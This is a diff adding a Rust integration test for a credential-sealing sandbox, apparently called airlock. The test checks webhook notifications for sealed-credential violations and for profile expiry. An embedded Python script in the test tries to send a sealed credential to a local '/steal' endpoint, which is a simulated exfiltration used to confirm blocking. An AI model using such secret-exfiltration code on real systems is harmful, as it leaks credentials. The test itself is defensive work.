@@ -434,3 +434,154 @@ async fn e_mail_reaches_a_real_smtp_server_without_secrets() {
     let (_, v) = env.admin("GET", "/api/admin/notifications", None).await;
     assert_eq!(v["email"], Value::Null);
 }
+
+#[tokio::test]
+async fn an_expiring_profile_and_a_sealed_violation_are_told_once_each() {
+    let env = Env::start_with(|c| {
+        c.notify_retry_ms = 50;
+        c.expiry_check_secs = 1;
+    })
+    .await
+    .expect("these tests need the real sandbox");
+    let (base, rx) = receiver().await;
+    let (s, v) = env
+        .admin(
+            "POST",
+            "/api/admin/notifications/webhooks",
+            Some(json!({"url": format!("{base}/hook"), "format": "json",
+                        "events": ["profile_expiring", "sealed_violation"], "secret": SECRET})),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED, "{v}");
+
+    // A sealed credential bound to a host the script never reaches; the script
+    // sends its placeholder to the receiver (loopback, allowed) instead.
+    let (s, v) = env
+        .admin(
+            "POST",
+            "/api/admin/credentials",
+            Some(
+                json!({"name": "BOUND_KEY", "value": VALUE, "mode": "sealed",
+                        "bound_hosts": ["127.0.0.5:9"]}),
+            ),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED, "{v}");
+    let (s, p) = env
+        .admin(
+            "POST",
+            "/api/admin/profiles",
+            Some(json!({"description": "Leaky", "credentials": ["BOUND_KEY"]})),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED, "{p}");
+    let id = p["id"].as_str().unwrap().to_string();
+    let (s, locked) = env
+        .admin("POST", &format!("/api/admin/profiles/{id}/lock"), None)
+        .await;
+    assert_eq!(s, StatusCode::OK, "{locked}");
+    let key = locked["key"].as_str().unwrap().to_string();
+    let receiver_host = base.trim_start_matches("http://").to_string();
+    env.set_hosts(&id, json!([receiver_host])).await;
+    let out = env
+        .run(
+            &key,
+            &format!(
+                r#"
+import urllib.request, urllib.error
+req = urllib.request.Request("{base}/steal", data=b"x", headers={{"X-Anything": settings.get("BOUND_KEY")}})
+try:
+    urllib.request.urlopen(req, timeout=10)
+    set_result("sent")
+except urllib.error.HTTPError as e:
+    set_result(e.code)
+"#
+            ),
+        )
+        .await;
+    assert_eq!(out["result"], 403, "{out}");
+    wait_for(&rx, "the sealed violation", |got| {
+        events(got, "hook").contains(&"sealed_violation".to_string())
+    })
+    .await;
+    // The receiver never got the request itself, only the notification.
+    assert!(events(&rx.got.lock().unwrap(), "steal").is_empty());
+    {
+        let got = rx.got.lock().unwrap();
+        let (_, _, body) = got
+            .iter()
+            .find(|(n, h, _)| n == "hook" && h["x-airlock-event"] == "sealed_violation")
+            .unwrap();
+        let v: Value = serde_json::from_str(body).unwrap();
+        assert_eq!(v["data"]["credentials"], json!(["BOUND_KEY"]), "{v}");
+        assert_eq!(v["data"]["host"], receiver_host.as_str(), "{v}");
+        assert_eq!(v["data"]["revoked"], false, "{v}");
+        assert_eq!(v["data"]["execution_id"], out["execution_id"], "{v}");
+        assert!(!body.contains(VALUE), "{body}");
+        assert!(!body.contains("airlock-sealed:"), "{body}");
+    }
+
+    // The profile expires in two hours: told once, not at every check.
+    let soon = (chrono::Utc::now() + chrono::Duration::hours(2)).to_rfc3339();
+    let (s, v) = env
+        .admin(
+            "PUT",
+            &format!("/api/admin/profiles/{id}"),
+            Some(json!({ "expires_at": soon })),
+        )
+        .await;
+    assert_eq!(s, StatusCode::OK, "{v}");
+    wait_for(&rx, "the expiry warning", |got| {
+        events(got, "hook").contains(&"profile_expiring".to_string())
+    })
+    .await;
+    tokio::time::sleep(Duration::from_millis(2500)).await;
+    let told = |rx: &Receiver| {
+        events(&rx.got.lock().unwrap(), "hook")
+            .iter()
+            .filter(|e| *e == "profile_expiring")
+            .count()
+    };
+    assert_eq!(told(&rx), 1, "warned again without a change");
+    {
+        let got = rx.got.lock().unwrap();
+        let (_, _, body) = got
+            .iter()
+            .find(|(_, h, _)| h["x-airlock-event"] == "profile_expiring")
+            .unwrap();
+        let v: Value = serde_json::from_str(body).unwrap();
+        assert_eq!(v["data"]["profile_id"], id.as_str(), "{v}");
+        assert!(
+            v["link"]
+                .as_str()
+                .unwrap()
+                .ends_with(&format!("/ui/profiles/{id}")),
+            "{v}"
+        );
+    }
+    // Moved (still within a day): told again. Moved beyond a day: nothing.
+    let sooner = (chrono::Utc::now() + chrono::Duration::hours(1)).to_rfc3339();
+    env.admin(
+        "PUT",
+        &format!("/api/admin/profiles/{id}"),
+        Some(json!({ "expires_at": sooner })),
+    )
+    .await;
+    wait_for(&rx, "a second expiry warning", |got| {
+        events(got, "hook")
+            .iter()
+            .filter(|e| *e == "profile_expiring")
+            .count()
+            == 2
+    })
+    .await;
+    let later = (chrono::Utc::now() + chrono::Duration::days(3)).to_rfc3339();
+    env.admin(
+        "PUT",
+        &format!("/api/admin/profiles/{id}"),
+        Some(json!({ "expires_at": later })),
+    )
+    .await;
+    tokio::time::sleep(Duration::from_millis(2500)).await;
+    assert_eq!(told(&rx), 2);
+}
